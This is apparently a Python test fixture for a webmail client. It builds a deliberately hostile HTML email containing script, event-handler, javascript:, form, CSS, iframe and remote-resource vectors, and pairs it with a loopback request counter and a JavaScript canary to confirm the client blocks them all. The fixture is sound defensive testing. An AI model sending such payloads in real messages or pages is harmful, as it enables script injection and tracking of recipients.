"""Hostile mail for the browser tests: a loopback HTTP server that counts every request it gets (the "remote" URLs a
hostile message names), the message itself as raw MIME, and the JavaScript canary a test checks stayed unset.

    with HitCounter() as remote:
        hostile = hostile_message(remote.url, sender="evil@example.net", to="alice@mail.localhost")
        deliver_smtp("127.0.0.1", server.smtp_port, hostile.sender, ["alice@mail.localhost"], hostile.raw)
        arm_canary(driver)                         # before the page that shows it is loaded
        ...                                        # open the message in the browser, click what it offers
        assert remote.hits() == [] and canary(driver) is None

The message carries every way an HTML mail has to run code or reach out (HOSTILE_VECTORS names them): <script>
inline and remote, onerror/onload handlers, <meta http-equiv=refresh>, a form posting to the remote server, CSS url()
in a <style>, an @import, a <link rel=stylesheet> and a style attribute, a remote <img> (src and srcset), <iframe>,
<object>, <embed>, <video poster>, <audio>, <base href>, <link rel=prefetch>, and a link whose href is javascript:.
Each script tries all the ways it has to say it ran: `window.top.__pwned` (the canary; readable when it runs in the
page's origin), its own window's `__pwned`, a postMessage to its parent (which `arm_canary` turns into the top
window's `__pwned`), and a request to the remote server (a hit). It also has a text part, a cid: image (a PNG of the
message's own) and an attachment, so that a test of the page shows those beside it.
"""

import http.server
import threading
from collections import namedtuple

from .mail_fixtures import message, png_pixel

# The canary: a global of the top window that only script from the message could set.
CANARY = "__pwned"

# What `arm_canary` installs in every document the browser opens: a message from a frame that says it ran sets the
# canary of the window that hears it.
_LISTENER = ("window.addEventListener('message', function (e) { if (e.data && typeof e.data === 'object'"
             " && e.data.pwned) window.%s = String(e.data.pwned); });" % CANARY)
# The canary of the window a script runs in, or null.
_READ = "return window.%s === undefined ? null : String(window.%s)" % (CANARY, CANARY)

# The vectors the hostile message carries, each with the remote path it would reach (None: it runs code only).
HOSTILE_VECTORS = {
    "inline script": "/pwned/inline-script",
    "remote script": "/script.js",
    "img onerror": "/pwned/onerror",
    "svg onload": "/pwned/svg-onload",
    "body onload": "/pwned/body-onload",
    "meta refresh": "/refresh",
    "form post": "/form",
    "css url() in <style>": "/css-background.png",
    "css @import": "/import.css",
    "<link rel=stylesheet>": "/style.css",
    "style attribute url()": "/inline-style.png",
    "remote <img>": "/remote-image.png",
    "remote srcset": "/srcset.png",
    "<iframe>": "/iframe.html",
    "<object>": "/object.svg",
    "<embed>": "/embed.svg",
    "<video poster>": "/poster.png",
    "<audio>": "/audio.mp3",
    "<base href> relative image": "/based/relative.png",
    "<link rel=prefetch>": "/prefetch",
    "javascript: link": "/pwned/javascript-link",
}

Hostile = namedtuple("Hostile", "raw sender to subject message_id html text attachment_name attachment cid_image")


def _pwn(remote, how):
    """Script that tells every way it can that it ran (`how`)."""
    return ("try{window.top.%(c)s='%(h)s'}catch(e){}try{window.%(c)s='%(h)s'}catch(e){}"
            "try{parent.postMessage({pwned:'%(h)s'},'*')}catch(e){}"
            "try{new Image().src='%(r)s/pwned/%(h)s'}catch(e){}" % {"c": CANARY, "h": how, "r": remote})


def hostile_html(remote):
    """The HTML part: every vector of HOSTILE_VECTORS against `remote` (the HitCounter's base URL), and the cid:
    image `inline-pixel`."""
    r = remote.rstrip("/")
    return f"""<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="1;url={r}/refresh">
<base href="{r}/based/">
<link rel="stylesheet" href="{r}/style.css">
<link rel="prefetch" href="{r}/prefetch">
<style>@import url("{r}/import.css"); body {{ background: url("{r}/css-background.png"); }}</style>
<script>{_pwn(r, "inline-script")}</script>
<script src="{r}/script.js"></script>
</head>
<body onload="{_pwn(r, 'body-onload')}">
<h1>Quarterly report</h1>
<p style="background-image: url('{r}/inline-style.png')">Please review the figures below.</p>
<p><img id="cid-image" src="cid:inline-pixel" alt="inline pixel"></p>
<img src="{r}/remote-image.png" alt="remote image">
<img srcset="{r}/srcset.png 1x" alt="remote srcset">
<img src="relative.png" alt="relative to base">
<img src="x-broken:" onerror="{_pwn(r, 'onerror')}" alt="">
<svg onload="{_pwn(r, 'svg-onload')}" width="1" height="1"></svg>
<iframe src="{r}/iframe.html" title="remote frame"></iframe>
<object data="{r}/object.svg" type="image/svg+xml"></object>
<embed src="{r}/embed.svg" type="image/svg+xml">
<video poster="{r}/poster.png"></video>
<audio src="{r}/audio.mp3" preload="auto"></audio>
<form id="hostile-form" action="{r}/form" method="post">
<input type="hidden" name="stolen" value="1"><button id="hostile-submit" type="submit">Confirm</button>
</form>
<p><a id="hostile-javascript-link" href="javascript:{_pwn(r, 'javascript-link')}">Open the report</a></p>
</body></html>
"""


def hostile_message(remote, sender, to, subject="Quarterly report", attachment_name="figures.txt"):
    """A `Hostile`: the raw MIME (multipart/mixed of a multipart/related of text, hostile HTML and the cid: PNG, and
    an attachment) and what a test checks the page shows of it."""
    html, text = hostile_html(remote), "Please review the figures below. (The HTML part is hostile.)"
    attachment = b"figures: 1, 2, 3\nnothing hostile in here\n"
    pixel = png_pixel()
    raw, message_id = message(sender, to, subject, text=text, html=html,
                              attachments=[(attachment_name, "text/plain", attachment)],
                              inline=[("inline-pixel", "image/png", pixel)])
    return Hostile(raw, sender, to, subject, message_id, html, text, attachment_name, attachment, pixel)


class HitCounter:
    """A loopback HTTP server (its own thread) that records every request: `hits()` lists (method, path) in order.
    Every path answers 200: a 1x1 PNG for .png, an empty script for .js, an empty stylesheet for .css, else a short
    text; `page(path, body, ...)` serves a body of the test's own at a path (still counted)."""

    def __init__(self):
        self._lock = threading.Lock()
        self._hits, self._headers, self._pages = [], {}, {}
        counter = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _answer(self):
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    self.rfile.read(length)
                with counter._lock:
                    counter._hits.append((self.command, self.path))
                    counter._headers[self.path.split("?", 1)[0]] = dict(self.headers)
                    page = counter._pages.get(self.path.split("?", 1)[0])
                status, body, kind, headers = page or counter._default(self.path)
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Cache-Control", "no-store")
                for name, value in headers.items():
                    self.send_header(name, value)
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(body)

            do_GET = do_POST = do_HEAD = do_PUT = do_OPTIONS = _answer

            def log_message(self, *arguments):
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.url = "http://127.0.0.1:%d" % self._server.server_address[1]
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    @staticmethod
    def _default(path):
        path = path.split("?", 1)[0]
        if path.endswith(".png"):
            return 200, png_pixel(), "image/png", {}
        if path.endswith(".js"):
            return 200, b"/* remote */", "text/javascript", {}
        if path.endswith(".css"):
            return 200, b"/* remote */", "text/css", {}
        return 200, b"remote\n", "text/plain", {}

    def page(self, path, body, content_type="text/html; charset=utf-8", headers=None, status=200):
        """Serves `body` (str or bytes) at `path` from now on, with `status` and `headers`; returns its URL."""
        data = body.encode() if isinstance(body, str) else body
        with self._lock:
            self._pages[path] = (status, data, content_type, dict(headers or {}))
        return self.url + path

    def headers(self, path):
        """The request headers of the last request for `path` (without its query), or None."""
        with self._lock:
            return self._headers.get(path)

    def hits(self, prefix=""):
        """The (method, path) of every request so far whose path starts with `prefix`."""
        with self._lock:
            return [hit for hit in self._hits if hit[1].startswith(prefix)]

    def reset(self):
        with self._lock:
            self._hits.clear()

    def close(self):
        self._server.shutdown()
        self._server.server_close()

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()


def arm_canary(driver):
    """Makes every document the browser opens from now on listen for a frame's "I ran" message (it sets the canary).
    Chromium only (the DevTools protocol)."""
    driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": _LISTENER})


def canary(driver):
    """The canary's value in the top window and in every frame whose window the browser lets the test read (None when
    unset everywhere); leaves the driver in the top document."""
    driver.switch_to.default_content()
    found = driver.execute_script(_READ)
    if found is None:
        found = _frames_canary(driver, [])
    driver.switch_to.default_content()
    return found


def _frames_canary(driver, path):
    from selenium.common.exceptions import WebDriverException
    from selenium.webdriver.common.by import By

    for index in range(len(driver.find_elements(By.CSS_SELECTOR, "iframe, frame"))):
        driver.switch_to.default_content()
        try:
            for step in path + [index]:
                driver.switch_to.frame(step)
            value = driver.execute_script(_READ)
        except WebDriverException:
            continue  # a frame the browser does not let a script read: its script, if any ran, hit the counter
        if value is None:
            value = _frames_canary(driver, path + [index])
        if value is not None:
            return value
    return None
